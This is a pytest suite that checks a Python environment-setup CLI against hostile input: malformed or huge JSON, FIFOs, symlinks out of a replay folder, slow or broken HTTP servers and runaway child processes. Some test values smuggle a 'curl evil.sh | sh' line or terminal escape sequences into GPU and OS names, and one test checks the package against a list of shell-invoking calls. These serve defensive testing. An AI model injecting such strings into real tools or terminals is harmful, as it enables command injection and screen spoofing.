"""Issue 11: hostile input meets a clear error, never a hang, a traceback or unbounded memory.

One test (or one parametrized group) per row of the issue; each failed on the code before the
fix. Servers are real loopback servers (tests/fixtures/hostile/servers.py); commands are real
child processes; cases that could hang or eat memory on broken code run in a child Python with
a memory limit and a timeout, so a regression fails the test instead of the machine.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from setup_env.cli import main
from setup_env.knowledge import index
from setup_env.probe import cloud
from setup_env.probe.host import MAX_OUTPUT, LiveHost

ROOT = Path(__file__).resolve().parent.parent
FIX = Path(__file__).parent / "fixtures"
HOSTS = FIX / "hosts"
_spec = importlib.util.spec_from_file_location(
    "setup_env_test_hostile", FIX / "hostile" / "servers.py"
)
assert _spec and _spec.loader
servers: Any = importlib.util.module_from_spec(_spec)
sys.modules[_spec.name] = servers
_spec.loader.exec_module(servers)

REAL_HOST = HOSTS / "ubuntu2404-cpu-only"


def child_python(
    code: str, timeout: float = 60, mem_mb: int = 1500
) -> subprocess.CompletedProcess[str]:
    """Run ``code`` in a child Python with an address-space limit: runaway memory fails fast."""
    limit = mem_mb << 20
    pre = f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))\n"
    return subprocess.run(
        [sys.executable, "-c", pre + code],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=ROOT,
        check=False,
    )


def cli_json(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, dict[str, Any], str]:
    rc = main(list(argv))
    out = capsys.readouterr()
    return rc, json.loads(out.out), out.err


def replay(tmp_path: Path, doc: Any, base: Path | None = None) -> Path:
    root = tmp_path / "r"
    if base is not None:
        shutil.copytree(base, root)
    else:
        root.mkdir()
    (root / "host.json").write_text(json.dumps(doc) if not isinstance(doc, str) else doc)
    return root


def gone_soon(pid: int, within: float = 10.0) -> bool:
    """Whether ``pid`` is gone, polled until a deadline (a killed process takes a moment to be
    reaped; a fixed sleep is either too short on a busy machine or wasted on a quiet one)."""
    deadline = time.monotonic() + within
    while not gone(pid):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


def gone(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return True
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(")")[1].split()[0] == "Z"
    except OSError:
        return True


# --- row 2: replay folders with wrong JSON types ------------------------------------------------

WRONG_TYPES = [
    {"env": []},
    {"env": {"PATH": 5}},
    {"which": []},
    {"links": ["a"]},
    {"links": {"/a": 5}},
    {"unreadable": 5},
    {"exists": {"a": 1}},
    {"dirs": []},
    {"dirs": {"/etc": "x"}},
    {"disk_free": []},
    {"commands": {}},
    {"commands": [5]},
    {"commands": [{"argv": "nvidia-smi"}]},
    {"commands": [{"argv": ["nvidia-smi"], "stdout": 5}]},
    {"commands": [{"argv": ["nvidia-smi"], "returncode": "0"}]},
    {"commands": [{"argv": ["nvidia-smi"], "error": "exploded"}]},
    {"interpreter": {"version": 3}},
    {"interpreter": {"tags": "cp312"}},
    {"interpreter": {"sys_path": [1]}},
    {"nvml": []},
    {"nvml": {"gpus": 5}},
    [],
    "5",
]


@pytest.mark.parametrize("doc", WRONG_TYPES, ids=[json.dumps(d)[:40] for d in WRONG_TYPES])
def test_row2_replay_wrong_types_answer_an_error_envelope(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], doc: Any
) -> None:
    root = replay(tmp_path, doc)
    rc, out, err = cli_json(capsys, "detect", "--json", "--root", str(root))
    assert rc == 3, err
    assert out["schema"] == "setup-env/error"
    assert "host.json" in out["error"]["message"]
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


# --- row 3: replay reads bounded, regular files only, confined to the folder ---------------------


def test_row3_stdout_file_outside_the_folder_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("not for replay\n")
    for where in (str(secret), "../secret.txt"):
        root = replay(tmp_path, {"commands": [{"argv": ["nvidia-smi"], "stdout_file": where}]})
        rc, out, _ = cli_json(capsys, "detect", "--json", "--root", str(root))
        assert rc == 3 and "outside" in out["error"]["message"], where
        shutil.rmtree(root)


def test_row3_stdout_file_dev_zero_is_refused_not_read() -> None:
    code = (
        "import json, pathlib, tempfile\n"
        "from setup_env.cli import main\n"
        "d = pathlib.Path(tempfile.mkdtemp())\n"
        "(d / 'z').symlink_to('/dev/zero')\n"
        "doc = {'commands': [{'argv': ['x'], 'stdout_file': 'z'}]}\n"
        "(d / 'host.json').write_text(json.dumps(doc))\n"
        "raise SystemExit(main(['detect', '--json', '--root', str(d)]))\n"
    )
    proc = child_python(code, timeout=60)
    assert proc.returncode == 3, proc.stderr[-2000:]
    assert "outside" in json.loads(proc.stdout)["error"]["message"]


def test_row3_stdout_file_fifo_is_refused_not_opened(tmp_path: Path) -> None:
    root = replay(tmp_path, {"commands": [{"argv": ["nvidia-smi"], "stdout_file": "fifo"}]})
    os.mkfifo(root / "fifo")  # nobody writes: a plain open() would block forever
    code = (
        "from setup_env.cli import main\n"
        f"raise SystemExit(main(['detect', '--json', '--root', {str(root)!r}]))"
    )
    proc = child_python(code, timeout=60)
    assert proc.returncode == 3, proc.stderr[-2000:]
    assert "not a regular file" in json.loads(proc.stdout)["error"]["message"]


def test_row3_fifo_and_links_out_of_files_do_not_hang_or_escape(tmp_path: Path) -> None:
    root = replay(tmp_path, json.loads((REAL_HOST / "host.json").read_text()), REAL_HOST)
    etc = root / "files" / "etc"
    (etc / "os-release").unlink()
    os.mkfifo(etc / "os-release")  # nobody ever writes: a plain open() blocks forever
    (etc / "redhat-release").symlink_to("/etc/hostname")  # a link out of the folder
    start = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "setup_env", "detect", "--json", "--root", str(root)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
        check=False,
    )
    assert time.monotonic() - start < 30
    assert proc.returncode == 0, proc.stderr[-2000:]
    facts = json.loads(proc.stdout)["facts"]
    assert facts["os"]["distro_id"] is None  # neither the FIFO nor this machine's files were read
    assert "Traceback" not in proc.stderr


def test_row3_huge_os_release_is_not_read_whole_by_distro(tmp_path: Path) -> None:
    # distro, given the folder as root_dir, would read all 60 MB itself (18 s seen)
    root = replay(tmp_path, json.loads((REAL_HOST / "host.json").read_text()), REAL_HOST)
    big = root / "files" / "etc" / "os-release"
    with big.open("wb") as fh:  # 60 MB of a line distro parses slowly
        fh.truncate(60 << 20)
    start = time.monotonic()
    rc = main(["detect", "--json", "--root", str(root)])
    assert rc == 0
    assert time.monotonic() - start < 10


# --- row 4: deep or huge JSON -------------------------------------------------------------------

DEEP = "[" * 200_000
HUGE_INT = '{"schema_version": ' + "9" * 5000 + "}"


@pytest.mark.parametrize("text", [DEEP, HUGE_INT, '{"a": NaN}'], ids=["deep", "huge-int", "nan"])
def test_row4_facts_file_deep_or_huge(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    f = tmp_path / "facts.json"
    f.write_text(text)
    rc, out, err = cli_json(capsys, "plan", "--json", "--facts", str(f))
    assert rc == 2 and out["schema"] == "setup-env/error", err
    assert "Traceback" not in err


@pytest.mark.parametrize("text", [DEEP, HUGE_INT], ids=["deep", "huge-int"])
def test_row4_corrupt_env_matrix_falls_back_to_bundled(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    text: str,
) -> None:
    from setup_env.knowledge import matrix as mx

    f = tmp_path / "wheels.json"
    f.write_text(text)
    monkeypatch.setenv(mx.ENV_VAR, str(f))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    m = mx.load_matrix()
    assert m.origin == "bundled"
    assert any(mx.ENV_VAR in n for n in m.notes)


@pytest.mark.parametrize("text", [DEEP, HUGE_INT, "{}", '{"releases": 5}'])
def test_row4_corrupt_user_cache_does_not_break_plan(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    text: str,
) -> None:
    from setup_env.knowledge import matrix as mx

    monkeypatch.delenv(mx.ENV_VAR, raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    user = mx.user_matrix_path()
    user.parent.mkdir(parents=True)
    user.write_text(text)
    rc, out, err = cli_json(capsys, "plan", "--json", "--os", "linux", "--variant", "cpu")
    assert rc == 0, err
    assert out["plan"]["matrix"]["origin"] == "bundled"
    assert any("refreshed matrix ignored" in n for n in out["plan"]["matrix"].get("notes", []))


def test_row4_user_cache_fifo_does_not_hang(tmp_path: Path) -> None:
    cache = tmp_path / "cache" / "setup-env"
    cache.mkdir(parents=True)
    os.mkfifo(cache / "wheels.json")
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    env.pop("SETUP_ENV_MATRIX", None)
    proc = subprocess.run(
        [sys.executable, "-m", "setup_env", "plan", "--json", "--os", "linux", "--variant", "cpu"],
        capture_output=True, text=True, timeout=60, cwd=ROOT, env=env, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-2000:]


@pytest.mark.parametrize("text", [DEEP.encode(), HUGE_INT.encode()], ids=["deep", "huge-int"])
def test_row4_index_answers_deep_or_huge(text: bytes) -> None:
    with pytest.raises(index.IndexFetchError) as err:
        index.parse_pep691(text, "torch", "http://x/simple/torch/")
    assert err.value.kind == "invalid"


# --- rows 5 and 6: HTTP transport ---------------------------------------------------------------


def test_row5_connection_cut_mid_body_is_an_index_error() -> None:
    with servers.HostileServer("cut-body") as srv:
        fetcher = index.Fetcher(timeout=5)
        with pytest.raises(index.IndexFetchError) as err:
            fetcher.get(srv.url + "/simple/torch/")
        fetcher.close()
    assert "broke off" in err.value.detail


def test_row5_refresh_against_a_cut_connection_exits_cleanly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with servers.HostileServer("cut-body") as srv:
        rc = main(
            ["matrix", "refresh", "--json", "--pypi-url", srv.url + "/simple",
             "--index-url", srv.url + "/whl", "--timeout", "3",
             "--output", str(tmp_path / "w.json")]
        )  # fmt: skip
    out = capsys.readouterr()
    assert rc in (0, 1, 3)  # whether an empty refresh is written is row 7's business
    assert "Traceback" not in out.err
    assert "broke off" in out.out + out.err
    json.loads(out.out)


@pytest.mark.parametrize("mode", ["drip-headers", "drip-body", "silent"])
def test_row6_index_deadline_covers_connect_headers_and_body(mode: str) -> None:
    with servers.HostileServer(mode, seconds=8, interval=0.05) as srv:
        fetcher = index.Fetcher(timeout=1.0)
        start = time.monotonic()
        with pytest.raises(index.IndexFetchError) as err:
            fetcher.get(srv.url + "/simple/torch/")
        took = time.monotonic() - start
        fetcher.close()
    assert err.value.kind == "timeout"
    assert took < 3.0, took  # the server drips for 8 s: well past a deadline that slipped


@pytest.mark.parametrize("mode", ["drip-headers", "drip-body", "silent"])
def test_row6_cloud_metadata_budget_is_total(mode: str) -> None:
    with servers.HostileServer(mode, seconds=8, interval=0.05) as srv:
        ends = dict.fromkeys(cloud.METADATA_PROVIDERS, srv.url)
        start = time.monotonic()
        provider, answer, notes = cloud.query_metadata(("azure", "oci"), ends, 0.8)
        took = time.monotonic() - start
    assert provider is None and answer is None
    assert took < 2.0, took  # 0.8 s budget; the server drips for 8 s
    assert any(n.code == "cloud-metadata-timeout" for n in notes)


# --- row 8: child output bounded -----------------------------------------------------------------


def test_row8_endless_child_output_is_capped() -> None:
    code = (
        "import sys\n"
        "from setup_env.probe.host import LiveHost\n"
        "argv = [sys.executable, '-c', 'import os\\nwhile 1: os.write(1, bytes(1 << 20))']\n"
        "r = LiveHost().run(argv, timeout=5)\n"
        "print(len(r.stdout), r.error)\n"
    )
    proc = child_python(code, timeout=60, mem_mb=1000)
    assert proc.returncode == 0, proc.stderr[-2000:]
    size, error = proc.stdout.split()
    assert int(size) <= MAX_OUTPUT
    assert error == "too-large"


def test_row8_verify_worker_stderr_without_newlines_is_capped() -> None:
    code = (
        "import sys, time\n"
        "from setup_env.act.smoke.child import Child as _Child, MAX_STDERR, STDERR_LINES\n"
        "argv = [sys.executable, '-c', 'import os\\nwhile 1: os.write(2, b\"x\" * 65536)']\n"
        "c = _Child(argv, {})\n"
        # until the kept lines are full (the cap reached), then until the oldest is dropped (the
        # writer still going past the cap): polled, with a deadline, not a fixed sleep
        "deadline = time.monotonic() + 30\n"
        "while len(c.stderr) < STDERR_LINES and time.monotonic() < deadline:\n"
        "    time.sleep(0.02)\n"
        "full = len(c.stderr) == STDERR_LINES\n"
        "first = c.stderr[0]\n"
        "while c.stderr and c.stderr[0] is first and time.monotonic() < deadline:\n"
        "    time.sleep(0.02)\n"
        "rolled = not c.stderr or c.stderr[0] is not first\n"
        "c.kill()\n"
        "n = len(c.stderr_text())\n"
        "print(n, full and rolled and n <= MAX_STDERR + 1000)\n"
    )
    proc = child_python(code, timeout=60, mem_mb=1000)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout.split()[1] == "True", proc.stdout


# --- row 14: a timeout kills the whole group ----------------------------------------------------

_FORKER = (
    "import subprocess, sys\n"
    "p = subprocess.Popen(['sleep', '30'])\n"
    "open(sys.argv[1], 'w').write(str(p.pid))\n"
    "{tail}"
)


def test_row14_live_host_timeout_kills_grandchildren(tmp_path: Path) -> None:
    pidfile = tmp_path / "pid"
    argv = [sys.executable, "-c", _FORKER.format(tail="p.wait()\n"), str(pidfile)]
    start = time.monotonic()
    res = LiveHost().run(argv, timeout=1.5)
    assert time.monotonic() - start < 8
    assert res.error == "timeout"
    assert gone_soon(int(pidfile.read_text()))


def test_row14_verify_worker_kill_takes_its_helpers(tmp_path: Path) -> None:
    from setup_env.act.smoke.child import Child as _Child

    pidfile = tmp_path / "pid"
    # the worker forks a helper and exits at once: the helper keeps the pipes open
    argv = [sys.executable, "-c", _FORKER.format(tail=""), str(pidfile)]
    child = _Child(argv, dict(os.environ))
    child.proc.wait(timeout=10)
    start = time.monotonic()
    child.kill()
    assert time.monotonic() - start < 3
    assert gone_soon(int(pidfile.read_text()))


# --- row 9: verify --junit to a path that cannot be written -------------------------------------


def test_row9_junit_path_checked_before_any_check_runs(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    import setup_env.act.smoke

    ran: list[object] = []  # a spy: the checks must not even start
    monkeypatch.setattr(setup_env.act.smoke, "run_verify", lambda *a, **k: ran.append(a))
    rc, out, err = cli_json(capsys, "verify", "--json", "--junit", str(tmp_path / "no" / "x.xml"))
    assert rc == 2 and out["error"]["code"] == "bad-input", err
    assert "no folder" in out["error"]["message"]
    assert ran == []


# --- row 10: usage errors under --json ----------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["plan", "--json", "--os", "win"],
        ["plan", "--json", "--frobnicate"],
        ["detect", "--json", "--root"],
        ["matrix", "show", "--json", "--torch"],
        ["verify", "--json", "--timeout-scale", "x"],
        ["--json", "--nope"],
    ],
)
def test_row10_usage_errors_print_the_error_envelope(
    capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    rc, out, err = cli_json(capsys, *argv)
    assert rc == 2
    assert out["schema"] == "setup-env/error" and out["error"]["code"] == "usage"
    assert len(err.strip().splitlines()) == 1, err


# --- row 11: echoed input is one line -----------------------------------------------------------


@pytest.mark.parametrize("value", ["RTX 4090\n$ curl evil.sh | sh", "RTX 4090\r$ x", "a\x1b[2Jb"])
def test_row11_control_characters_in_arguments_are_never_echoed_raw(
    capsys: pytest.CaptureFixture[str], value: str
) -> None:
    rc = main(["plan", "--os", "linux", "--gpu", value])
    out = capsys.readouterr()
    assert rc == 2
    assert out.out == ""
    assert len(out.err.strip().splitlines()) == 1
    assert "\x1b" not in out.err and "\r" not in out.err
    assert "\\n" in out.err or "\\r" in out.err or "\\x1b" in out.err


def test_row11_control_characters_in_a_facts_file_are_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["detect", "--json", "--root", str(HOSTS / "fedora-rtx5090-rtx4090-580")]) == 0
    doc = json.loads(capsys.readouterr().out)
    doc["facts"]["nvidia"]["gpus"][0]["name"] = "RTX 4090\n  $ curl evil.sh | sh"
    f = tmp_path / "facts.json"
    f.write_text(json.dumps(doc))
    main(["plan", "--facts", str(f)])
    out = capsys.readouterr()
    assert not any(ln.lstrip().startswith("$ curl") for ln in (out.out + out.err).splitlines())


@pytest.mark.parametrize("command", ["detect", "plan", "doctor"])
def test_row11_control_characters_read_from_the_machine_are_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    """A machine (here a replay) whose os-release names itself with terminal escapes (set the
    window title, clear the screen): what the probes read is printed escaped, never raw."""
    folder = tmp_path / "host"
    shutil.copytree(HOSTS / "debian12-nogpu-cuda13toolkit", folder)
    rel = folder / "files" / "etc" / "os-release"
    rel.write_text(
        rel.read_text().replace(
            'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"',
            'PRETTY_NAME="Debian GNU/Linux 12\x1b]0;owned\x07\x1b[2J"',
        )
    )
    main([command, "--root", str(folder)])
    text = capsys.readouterr().out
    assert "\x1b" not in text and "\x07" not in text
    if command == "detect":
        assert "Debian GNU/Linux 12\\x1b]0;owned\\x07\\x1b[2J" in text


# --- row 12: quoted paths in suggested commands -------------------------------------------------


def test_row12_installer_quotes_the_venv_path(tmp_path: Path) -> None:
    from setup_env.act.installer import InstallError, resolve_python

    where = tmp_path / "a broken venv; dir"
    with pytest.raises(InstallError) as err:
        resolve_python(None, str(where))
    assert f"python3 -m venv '{where}'" in str(err.value)


SH = "/bin/sh"


def _install_sh(args: list[str], tmp: Path) -> subprocess.CompletedProcess[str]:
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    for tool in ("df", "sed", "grep", "ls", "cat"):
        found = shutil.which(tool)
        assert found
        if not (bin_dir / tool).exists():
            (bin_dir / tool).symlink_to(found)
    return subprocess.run(
        [SH, str(ROOT / "install.sh"), *args],
        env={"PATH": str(bin_dir), "HOME": str(tmp), "LC_ALL": "C"},
        cwd=tmp, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def test_row12_install_sh_quotes_the_broken_venv_in_rm(tmp_path: Path) -> None:
    venv = tmp_path / "a broken venv dir"
    venv.mkdir()
    (venv / "pyvenv.cfg").write_text("home = /nowhere\n")
    proc = _install_sh(["--dry-run", "--python", sys.executable, "--venv", str(venv)], tmp_path)
    assert proc.returncode == 14, proc.stderr
    assert f"rm -r '{venv}'" in proc.stderr


# --- row 13: install.sh and things that are not Pythons -----------------------------------------


def test_row13_install_sh_rejects_bin_true_cleanly(tmp_path: Path) -> None:
    proc = _install_sh(["--dry-run", "--python", "/bin/true"], tmp_path)
    assert proc.returncode == 10, proc.stderr
    assert "Illegal number" not in proc.stderr and "integer" not in proc.stderr
    assert "found Python" not in proc.stdout
    assert "not a Python" in proc.stderr


def test_row13_install_sh_venv_inside_a_file(tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("x")
    proc = _install_sh(
        ["--dry-run", "--python", sys.executable, "--venv", str(tmp_path / "afile" / "env")],
        tmp_path,
    )
    assert proc.returncode == 14, proc.stderr
    assert "python3-venv" not in proc.stderr
    assert "not a folder" in proc.stderr


# --- row 15: BOMs in facts files, empty --venv, dot segments, Azure garbage ---------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "utf-16-be"])
def test_row15_facts_file_with_a_bom(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], encoding: str
) -> None:
    assert main(["detect", "--json", "--root", str(REAL_HOST)]) == 0
    text = capsys.readouterr().out
    f = tmp_path / "facts.json"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    f.write_bytes(data)
    rc, out, err = cli_json(capsys, "plan", "--json", "--facts", str(f))
    assert rc == 0, err
    assert out["schema"] == "setup-env/plan"


def test_row15_install_empty_venv_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out, _ = cli_json(capsys, "install", "--json", "--dry-run", "--venv", "")
    assert rc == 2 and "--venv" in out["error"]["message"]


@pytest.mark.parametrize(
    "url",
    [
        "https://download.pytorch.org/whl/../../x",
        "https://download.pytorch.org/whl/%2e%2e/x",
        "https://download.pytorch.org/./whl",
    ],
)
def test_row15_index_url_with_dot_segments_is_refused(
    capsys: pytest.CaptureFixture[str], url: str
) -> None:
    from setup_env.act.installer import InstallError, check_url

    rc, out, _ = cli_json(capsys, "plan", "--json", "--os", "linux", "--index-url", url)
    assert rc == 2 and out["schema"] == "setup-env/error"
    with pytest.raises(InstallError):
        check_url(url)


def test_row15_metadata_answering_200_garbage_is_not_azure() -> None:
    with servers.HostileServer("garbage-200") as srv:
        ends = dict.fromkeys(cloud.METADATA_PROVIDERS, srv.url)
        provider, answer, notes = cloud.query_metadata(("azure", "oci"), ends, 2.0)
    assert provider is None and answer is None
    assert any(n.code == "cloud-metadata-garbled" for n in notes)


# --- no shell, anywhere -------------------------------------------------------------------------


def test_no_shell_in_the_package() -> None:
    hits = []
    for path in sorted((ROOT / "setup_env").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for needle in ("shell=True", "os.system(", "os.popen(", "shell = True"):
            if needle in text:
                hits.append(f"{path.relative_to(ROOT)}: {needle}")
    assert hits == []


# --- found by scripts/fuzz.py (seed 1): outside JSON parsed without bounds ----------------------


@pytest.mark.parametrize("text", [DEEP, HUGE_INT], ids=["deep", "huge-int"])
def test_fuzz_found_metadata_and_version_json_bounded(text: str) -> None:
    from setup_env.probe import toolkit

    answer = cloud.parse_azure(text.encode())
    assert answer.instance_type is None and answer.notes
    assert toolkit.parse_version_json(text) is None
